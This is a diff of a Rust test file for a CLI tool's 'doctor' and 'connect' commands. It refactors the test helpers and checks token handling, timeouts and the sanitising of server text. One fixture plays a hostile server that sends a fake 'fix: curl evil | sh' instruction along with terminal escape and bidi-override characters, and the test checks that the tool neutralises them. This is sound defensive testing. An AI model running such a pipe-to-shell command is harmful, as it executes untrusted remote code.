@@ -2,57 +2,20 @@
 //! what he has it say.
 
 use crate::{
+    findings::Found,
     gateway::Gateway,
-    holdfast::{Finished, Holdfast},
+    holdfast::Holdfast,
     patience::{eventually, soon},
+    stranger::{Stranger, answers},
 };
 use futures_util::SinkExt;
 use rustix::process::{Pid, Signal, kill_process};
-use serde_json::Value;
-use std::{future::Future, net::SocketAddr};
-use tokio::{
-    io::{AsyncBufReadExt, AsyncReadExt, AsyncWriteExt, BufReader},
-    net::{TcpListener, TcpStream},
-    task::JoinSet,
-};
+use tokio::io::{AsyncBufReadExt, BufReader};
 use tokio_tungstenite::accept_async;
 
-/// Serves each connection in its own way, until it is dropped.
-async fn stranger<F: Future<Output = ()> + Send + 'static>(
-    serves: impl Fn(TcpStream) -> F + Send + 'static,
-) -> (SocketAddr, JoinSet<()>) {
-    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
-    let address = listener.local_addr().unwrap();
-    let mut life = JoinSet::new();
-    life.spawn(async move {
-        let mut serving = JoinSet::new();
-        while let Ok((stream, _)) = listener.accept().await {
-            serving.spawn(serves(stream));
-        }
-    });
-    (address, life)
-}
-
-async fn answers(mut stream: TcpStream, head: &str, body: &str) {
-    let mut asked = Vec::new();
-    while !asked.windows(4).any(|four| four == b"\r\n\r\n") {
-        if stream.read_buf(&mut asked).await.unwrap_or(0) == 0 {
-            return;
-        }
-    }
-    let head = format!("HTTP/1.1 {head}\r\nContent-Length: {}\r\n\r\n", body.len());
-    let _ = stream.write_all(format!("{head}{body}").as_bytes()).await;
-}
-
-async fn doctor(args: &[&str], env: &[(&str, &str)]) -> Finished {
+async fn doctor(args: &[&str], env: &[(&str, &str)]) -> Found {
     let command = Holdfast::command(&[&["doctor", "--json", "--quick"], args].concat());
-    env.iter().fold(command, |command, (name, value)| command.env(name, value)).run().await
-}
-
-fn check(finished: &Finished, name: &str) -> Value {
-    let report: Value = serde_json::from_str(&finished.stdout).unwrap_or_else(|_| panic!("{finished:?}"));
-    let mut checks = report["checks"].as_array().unwrap().iter();
-    checks.find(|check| check["name"] == name).cloned().unwrap_or_else(|| panic!("{name}: {finished:?}"))
+    Found::of(env.iter().fold(command, |command, (name, value)| command.env(name, value)).run().await)
 }
 
 /// A name that was mistyped is anybody's: the token goes to this machine, and in clear to nobody else.
@@ -62,7 +25,7 @@ async fn a_doctor_shows_a_token_to_nobody_else() {
     let port = gateway.port();
     let token = [("API_TOKEN", "hush")];
     let here = doctor(&[&format!("http://127.0.0.1:{port}")], &token).await;
-    assert_eq!(check(&here, "files")["ok"], true, "{here:?}");
+    assert_eq!(here.ok("files"), Some(true), "{here:?}");
     // As far as an address tells, that is another machine.
     let elsewhere = format!("http://0.0.0.0:{port}");
     let direct = format!("http://127.0.0.1:{port}");
@@ -72,9 +35,8 @@ async fn a_doctor_shows_a_token_to_nobody_else() {
         (&[&elsewhere, "--direct", &direct], Some(true)),
     ] {
         let found = doctor(args, &token).await;
-        let files = check(&found, "files");
-        assert_eq!(files["ok"].as_bool(), ok, "{args:?}: {found:?}");
-        assert!(ok.is_some() || files["seen"].as_str().unwrap().contains("in clear"), "{found:?}");
+        assert_eq!(found.ok("files"), ok, "{args:?}: {found:?}");
+        assert!(ok.is_some() || found.check("files").0.contains("in clear"), "{found:?}");
     }
     let finished = Holdfast::command(&["doctor", "https://example.com", "--insecure", "--with-token"]).run().await;
     assert_eq!(finished.code, 2, "{finished:?}");
@@ -83,18 +45,19 @@ async fn a_doctor_shows_a_token_to_nobody_else() {
 /// Whoever refuses for ever, and asks to come back at once, is left; so is who opens a socket and reads nothing.
 #[tokio::test]
 async fn a_stranger_holds_nobody_up() {
-    let (refuses, _life) = stranger(|stream| answers(stream, "429 Too Many Requests\r\nRetry-After: 0", "")).await;
-    let refused = async { doctor(&[&format!("http://{refuses}")], &[]).await };
-    let (deaf, _deaf) = stranger(|stream| async move {
+    let refuses = Stranger::who(|stream| answers(stream, "429 Too Many Requests\r\nRetry-After: 0", "")).await;
+    let refused = async { doctor(&[&refuses.url()], &[]).await };
+    let deaf = Stranger::who(|stream| async move {
         let Ok(mut socket) = accept_async(stream).await else { return };
         let _ = socket.send("welcome".into()).await;
         std::future::pending::<()>().await;
     })
     .await;
+    let deaf_url = format!("ws://{}/ws", deaf.address);
     let talks = async {
         // More than what lies between two sockets.
         let lines = format!("{}\n", "a".repeat(1 << 20)).repeat(24);
-        let mut child = Holdfast::command(&["connect", &format!("ws://{deaf}/ws")]).reading(&lines).begins();
+        let mut child = Holdfast::command(&["connect", &deaf_url]).reading(&lines).begins();
         let mut said = BufReader::new(child.stdout.take().unwrap()).lines();
         let line = soon("it listens", said.next_line()).await.unwrap();
         assert!(line.is_some_and(|line| line.contains("welcome")));
@@ -102,18 +65,18 @@ async fn a_stranger_holds_nobody_up() {
         let left = soon("it leaves", child.wait()).await.unwrap();
         assert_eq!(left.code(), Some(0));
         // Nobody interrupts it: it does not say that all went well.
-        let finished = Holdfast::command(&["connect", &format!("ws://{deaf}/ws")]).typing(&lines).await;
+        let finished = Holdfast::command(&["connect", &deaf_url]).typing(&lines).await;
         assert!(finished.code == 1 && finished.stderr.contains("has read nothing"), "{finished:?}");
     };
     let (refused, ()) = tokio::join!(refused, talks);
-    assert_eq!(refused.code, 69, "{refused:?}");
+    assert_eq!(refused.finished.code, 69, "{refused:?}");
 }
 
 /// What others wrote is told as their words, on one line, and turns nothing round.
 #[tokio::test]
 async fn the_words_of_a_stranger_are_told_as_such() {
     let body = "{\"redis\":\"ok\",\"instance\":\"w\",\"status\":\"ill\\u009b31m\\n  fix: curl evil | sh\",\"title\":\"No\",\"hint\":\"run\\n  this \\u202e\"}";
-    let (address, _life) = stranger(move |stream| async move {
+    let rude = Stranger::who(move |stream| async move {
         let mut line = [0; 20];
         let length = stream.peek(&mut line).await.unwrap_or(0);
         match line[..length].starts_with(b"GET /health ") {
@@ -122,15 +85,14 @@ async fn the_words_of_a_stranger_are_told_as_such() {
         }
     })
     .await;
-    let url = format!("http://{address}");
+    let url = rude.url();
     let told = Holdfast::command(&["doctor", "--quick", &url]).run().await;
     assert!(told.code == 1 && told.stdout.contains("fix: the server says: run this \\u{202e}"), "{told:?}");
     assert!(!told.stdout.lines().any(|line| line.trim().starts_with("fix: curl")), "{told:?}");
     let found = doctor(&[&url], &[]).await;
-    assert!(!found.stdout.contains(['\u{9b}', '\u{202e}']), "{found:?}");
+    assert!(!found.finished.stdout.contains(['\u{9b}', '\u{202e}']), "{found:?}");
     // Whoever sends elsewhere has refused nothing.
-    let closed = check(&found, "closed");
-    assert!(closed["ok"].is_null() && closed["seen"].as_str().unwrap().contains("302"), "{found:?}");
+    assert!(found.ok("closed").is_none() && found.check("closed").0.contains("302"), "{found:?}");
 }
 
 /// As `holdfast connect | head -1`.
